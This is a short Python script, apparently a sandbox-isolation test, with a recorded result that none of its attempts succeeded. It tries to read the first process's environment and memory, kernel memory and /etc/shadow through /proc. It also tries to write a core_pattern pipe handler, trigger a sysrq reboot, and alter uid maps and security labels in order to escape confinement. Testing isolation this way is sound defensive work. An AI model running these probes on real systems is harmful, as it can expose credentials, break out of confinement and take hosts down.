# Uses /proc to get at the first process, the kernel, or the way out.
# verdict: COMPLETED
# prints: got []
import os
got = []
def read(path):
    try:
        with open(path, "rb") as file:
            if file.read(64):
                got.append(path)
    except OSError:
        pass
def write(path, text):
    try:
        with open(path, "w") as file:
            file.write(text)
        got.append(path)
    except OSError:
        pass
for path in ("/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/1/auxv", "/proc/1/syscall", "/proc/1/stack",
             "/proc/kcore", "/proc/kmsg", "/proc/1/root/etc/shadow", "/proc/1/cwd/etc/shadow", "/proc/self/root/etc/shadow",
             "/proc/sched_debug", "/proc/timer_list"):
    read(path)
for directory in ("/proc/1/fd", "/proc/1/map_files", "/proc/1/task/1/fd"):
    try:
        if os.listdir(directory):
            got.append(directory)
    except OSError:
        pass
write("/proc/sys/kernel/core_pattern", "|/mnt/data/x")
write("/proc/sys/kernel/hostname", "x")
write("/proc/sysrq-trigger", "b")
write("/proc/self/oom_score_adj", "-1000")
write("/proc/self/uid_map", "0 0 1")
write("/proc/self/setgroups", "allow")
write("/proc/self/attr/current", "unconfined")
print("got", got)
